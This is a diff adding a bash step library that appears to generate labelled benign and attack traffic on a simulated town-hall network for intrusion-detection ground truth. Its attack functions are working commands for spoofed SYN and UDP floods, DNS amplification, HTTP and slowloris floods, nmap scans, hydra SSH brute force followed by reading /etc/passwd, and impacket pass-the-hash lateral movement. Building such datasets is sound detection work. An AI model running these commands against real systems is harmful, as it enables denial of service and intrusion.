@@ -1,0 +1,162 @@
+# Step library shared by all scenarios. Each step is bounded in count and time
+# (timeout + counts) and records its ground truth with gt_add: addresses from
+# lib.sh variables, start/end read from the clock around the step.
+RD="$(run_dir)"; export HOME="$RD/home/root"; mkdir -p "$HOME"
+IMPACKET_EX=/usr/share/doc/python3-impacket/examples
+SSHOPT=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5)
+q() { "$@" >>"$RD/log/steps.log" 2>&1; }          # quiet, logged
+qt() { local rc=0; "$@" >>"$RD/log/steps.log" 2>&1 || rc=$?; echo "[rc=$rc] $*" >>"$RD/log/steps.log"; return 0; } # tolerated
+BENIGN_EXPECT="benign activity: no alert"
+
+# ---------------------------------------------------------------- benign
+benign_browse() { # ws pages
+  local ws="$1" n="${2:-3}" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  local i p; for i in $(seq 1 "$n"); do
+    for p in / index.html actualites.html demarches.html css/style.css img/blason.png contact.html; do
+      qt nsc "$ws" timeout 10 curl -s -o /dev/null -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0" "http://www.$DOMAIN/$p"
+    done
+    qt nsc "$ws" timeout 10 curl -sk -o /dev/null "https://www.$DOMAIN/img/mairie.jpg"
+    qt nsc "$ws" timeout 10 wget -q -O /dev/null --no-check-certificate "https://www.$DOMAIN/espace-agent/login.html"
+    sleep 0.3
+  done
+  step_end; gt_add benign web_browsing "$ip" "$IP_WEB $IP_DNS" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_login() { # ws: a legitimate agent logs in on the city's site (TLS)
+  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  qt nsc "$ws" timeout 10 curl -sk -o /dev/null "https://www.$DOMAIN/espace-agent/login.html"
+  qt nsc "$ws" timeout 10 curl -sk -o /dev/null -d "user=m.dupont&password=Printemps2024" "https://www.$DOMAIN/espace-agent/login"
+  step_end; gt_add benign web_login "$ip" "$IP_WEB" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_dns() { # ws
+  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  local n; for n in www.$DOMAIN mail.$DOMAIN fichiers.$DOMAIN partenaire-sig.fr backup.partenaire-sig.fr; do
+    qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$n" A
+  done
+  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$DOMAIN" MX
+  qt nsc "$ws" timeout 5 dig +tries=1 +time=2 "$DOMAIN" TXT
+  step_end; gt_add benign dns_lookups "$ip" "$IP_DNS" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_mail() { # mail sent (LAN -> postfix -> partner) and received (partner -> postfix)
+  step_begin
+  qt nsc ws1 timeout 20 swaks --server $IP_MAIL --from m.dupont@$DOMAIN --to agent@$DOMAIN \
+     --header "Subject: Ordre du jour du conseil municipal" --body "Bonjour, voici l'ordre du jour de jeudi. Cordialement."
+  qt nsc remote timeout 20 swaks --server $IP_MAIL --helo mail.partenaire-sig.fr --from contact@partenaire-sig.fr --to mairie@$DOMAIN \
+     --header "Subject: Convention SIG 2024" --body "Bonjour, veuillez trouver la convention signee. Bien a vous."
+  qt nsc ws2 timeout 20 swaks --server $IP_MAIL --from rh@$DOMAIN --to contact@partenaire-sig.fr \
+     --header "Subject: Re: Convention SIG 2024" --body "Merci, bien recu."
+  sleep 2   # let postfix relay to the partner
+  step_end; gt_add benign mail "$IP_WS1 $IP_WS2 $IP_REMOTE" "$IP_MAIL" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_smb() { # ws: office work on the share with smbclient (open, edit, save, rename, delete)
+  local ws="$1" ip; ip=$(eval echo \$IP_${ws^^}); step_begin
+  local w="$RD/work-$ws"; mkdir -p "$w"
+  qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c "ls; cd RH; ls; lcd $w; mget *.docx; cd ../Finances; ls"
+  local f; f="$(ls "$w"/*.docx 2>/dev/null | head -1)"
+  if [ -n "$f" ]; then
+    cp "$f" "$w/edit.docx"; printf 'modif %s\n' "$(date)" >> "$w/edit.docx"
+    local b; b="$(basename "$f")"
+    qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c \
+      "cd RH; lcd $w; put edit.docx \"~WRL0001.tmp\"; rename \"$b\" \"$b.bak\"; rename \"~WRL0001.tmp\" \"$b\"; del \"$b.bak\"; put edit.docx \"Note de service brouillon.docx\"; ls"
+    qt nsc "$ws" timeout 30 smbclient //$IP_FS/Documents -U "$SMB_USER%$SMB_PASS" -m SMB3 -c "cd RH; del \"Note de service brouillon.docx\"; mkdir Archives; cd Archives; lcd $w; put edit.docx \"Note archivee.docx\""
+  fi
+  step_end; gt_add benign smb_office_work "$ip" "$IP_FS" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_ssh() { # admin sessions from ws3 to the ssh server
+  step_begin
+  local i; for i in 1 2; do
+    qt nsc ws3 timeout 20 sshpass -p "$SSH_PASS" ssh "${SSHOPT[@]}" $SSH_USER@$IP_SSH "uptime; df -h /; ls -la; id; ps aux | head -5"
+    sleep 0.5
+  done
+  step_end; gt_add benign ssh_admin "$IP_WS3" "$IP_SSH" "$T0" "$T1" "$BENIGN_EXPECT"
+}
+benign_backup() { # MB: nightly backup of the file server to the partner's offsite host (scp)
+  local mb="${1:-20}"; local f="$RD/backup-fichiers.tar"
+  tar -C "$RD" -cf "$f" share 2>/dev/null || true
+  head -c $((mb * 1024 * 1024)) /dev/urandom >> "$f"
+  step_begin
+  qt nsc fs timeout 120 sshpass -p "$SSH_PASS" scp "${SSHOPT[@]}" "$f" $SSH_USER@$IP_REMOTE:backup.tar
+  step_end; gt_add benign offsite_backup "$IP_FS" "$IP_REMOTE" "$T0" "$T1" "$BENIGN_EXPECT (large legitimate transfer, ${mb} MB scp to the offsite backup host)"
+}
+
+# ---------------------------------------------------------------- denial of service
+dos_syn_flood() { # count [rate_us]
+  local n="${1:-3000}" us="${2:-500}"; step_begin
+  qt nsx atk timeout 30 hping3 -q -S --rand-source -p 80 -c "$n" -i u"$us" $IP_WEB
+  step_end
+  gt_add dos syn_flood "" "$IP_WEB" "$T0" "$T1" "SYN flood against $IP_WEB:80 from random spoofed sources ($n SYNs, ~$((1000000/us)) pps); victim answers SYN-ACKs that are never acknowledged" \
+    '{"spoofed_sources": true, "real_origin": "'$IP_ATK'", "packets": '$n'}'
+}
+dos_udp_flood() { # count
+  local n="${1:-3000}"; step_begin
+  qt nsx atk2 timeout 30 hping3 -q --udp -p ++1024 -d 512 -c "$n" -i u500 $IP_WEB
+  step_end
+  gt_add dos udp_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "UDP flood from $IP_ATK2 to $IP_WEB ($n datagrams of 512 bytes to changing ports)" '{"packets": '$n'}'
+}
+dos_dns_amp() { # count
+  local n="${1:-300}" qf="$RD/amp-query.bin"
+  python3 - "$qf" <<'PY'
+import struct, sys
+name = b"".join(bytes([len(p)]) + p for p in b"cdn-assets.example.net".split(b".")) + b"\0"
+q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 1) + name + struct.pack(">HH", 16, 1)   # TXT IN, RD
+q += b"\0" + struct.pack(">HHIH", 41, 4096, 0, 0)                                           # EDNS0, 4096
+open(sys.argv[1], "wb").write(q)
+PY
+  local len; len=$(stat -c %s "$qf"); step_begin
+  qt nsx atk timeout 30 hping3 -q --udp -a $IP_WEB -s 40000 -k -p 53 -E "$qf" -d "$len" -c "$n" -i u5000 $IP_REFLECTOR
+  sleep 1; step_end
+  gt_add dos dns_amplification "$IP_REFLECTOR" "$IP_WEB" "$T0" "$T1" "DNS amplification: $n TXT queries (EDNS 4096) spoofed from $IP_WEB to open resolver $IP_REFLECTOR; large fragmented answers flood $IP_WEB" \
+    '{"reflector": "'$IP_REFLECTOR'", "real_origin": "'$IP_ATK'", "spoofed_sources": true, "queries": '$n'}'
+}
+dos_http_flood() { # concurrency repetitions
+  local c="${1:-20}" r="${2:-50}"; step_begin
+  qt nsx atk2 timeout 60 siege -b -q -c "$c" -r "$r" --no-parser --log="$RD/log/siege.log" "http://$IP_WEB/index.html"
+  step_end
+  gt_add dos http_flood "$IP_ATK2" "$IP_WEB" "$T0" "$T1" "HTTP flood: $((c*r)) GET requests from $IP_ATK2 to $IP_WEB in a few seconds ($c concurrent connections)" '{"requests": '$((c*r))'}'
+}
+dos_slowloris() { # connections seconds
+  local c="${1:-300}" s="${2:-20}"; step_begin
+  qt nsx atk timeout $((s + 20)) slowhttptest -H -c "$c" -r 100 -i 5 -l "$s" -x 24 -p 3 -u "http://$IP_WEB/index.html"
+  step_end
+  gt_add dos slowloris "$IP_ATK" "$IP_WEB" "$T0" "$T1" "Slowloris: $c slow HTTP connections from $IP_ATK to $IP_WEB sending incomplete headers every 5 s for ${s} s" '{"connections": '$c'}'
+}
+
+# ---------------------------------------------------------------- intrusion
+intr_nmap_syn() { # "targets" top-ports
+  local t="$1" n="${2:-200}"; step_begin
+  qt nsx atk timeout 90 nmap -sS -n -Pn -T4 --max-retries 1 --host-timeout 60s --top-ports "$n" $t
+  step_end
+  gt_add intrusion port_scan "$IP_ATK" "$t" "$T0" "$T1" "TCP SYN port scan from $IP_ATK of $t (top $n ports)" '{"scan_type": "syn"}'
+}
+intr_nmap_connect() { # internal recon from a compromised workstation
+  step_begin
+  qt nsx ws2 timeout 90 nmap -sT -n -T4 --max-retries 1 --host-timeout 30s -p 21,22,23,80,135,139,443,445,3389,5985 10.66.0.1-30
+  step_end
+  gt_add intrusion port_scan "$IP_WS2" "$IP_FS $IP_SSH $RTR_LAN" "$T0" "$T1" "TCP connect scan from workstation $IP_WS2 of 10.66.0.1-30 (10 ports): internal reconnaissance" '{"scan_type": "connect", "range": "10.66.0.1-30"}'
+}
+intr_nmap_udp() {
+  step_begin
+  qt nsx atk timeout 90 nmap -sU -n -Pn -T4 --max-retries 1 --host-timeout 60s --top-ports 30 $IP_DNS $IP_WEB
+  step_end
+  gt_add intrusion port_scan "$IP_ATK" "$IP_DNS $IP_WEB" "$T0" "$T1" "UDP port scan from $IP_ATK of $IP_DNS and $IP_WEB (top 30 UDP ports)" '{"scan_type": "udp"}'
+}
+intr_ssh_bruteforce() { # tries (the last one succeeds)
+  local n="${1:-20}" wl="$RD/wordlist.txt"
+  python3 - "$wl" "$n" "$SSH_PASS" <<'PY'
+import sys
+words = "123456 password azerty admin mairie mairie2024 Mairie123 soleil motdepasse qwerty Password1 bonjour marseille ville2024 Admin2024 123456789 chocolat Beffroi2024 printemps secret".split()
+n = int(sys.argv[2]); open(sys.argv[1], "w").write("\n".join((words * 5)[:n - 1] + [sys.argv[3]]) + "\n")
+PY
+  step_begin
+  ( cd "$RD" && qt nsx atk timeout 120 hydra -I -l $SSH_USER -P "$wl" -t 4 -f -o "$RD/log/hydra-found.txt" ssh://$IP_SSH )
+  qt nsx atk timeout 20 sshpass -p "$SSH_PASS" ssh "${SSHOPT[@]}" $SSH_USER@$IP_SSH "id; uname -a; cat /etc/passwd | head -3"
+  step_end
+  gt_add intrusion ssh_bruteforce "$IP_ATK" "$IP_SSH" "$T0" "$T1" "SSH brute force from $IP_ATK against $IP_SSH (user $SSH_USER, $n passwords, the last succeeds, followed by an interactive login)" \
+    '{"attempts": '$n', "success": true, "found": '"$(grep -q "password:" "$RD/log/hydra-found.txt" 2>/dev/null && echo true || echo false)"'}'
+}
+intr_smb_lateral() { # from compromised ws2 to the file server with stolen credentials
+  step_begin
+  qt nsx ws2 timeout 40 python3 $IMPACKET_EX/psexec.py -no-pass -hashes ":$(python3 -c 'import hashlib,sys;print(hashlib.new("md4",sys.argv[1].encode("utf-16le")).hexdigest())' "$SMB_PASS" 2>/dev/null || echo 0)" "MAIRIE/$SMB_USER@$IP_FS" "cmd.exe /c whoami"
+  qt nsx ws2 timeout 40 python3 $IMPACKET_EX/smbexec.py "MAIRIE/$SMB_USER:$SMB_PASS@$IP_FS"  < /dev/null
+  step_end
+  gt_add intrusion smb_lateral "$IP_WS2" "$IP_FS" "$T0" "$T1" "Lateral movement over SMB from $IP_WS2 to $IP_FS with impacket psexec/smbexec: ADMIN\$ upload and svcctl service creation (CreateServiceW)" '{"tools": ["psexec.py", "smbexec.py"]}'
+}
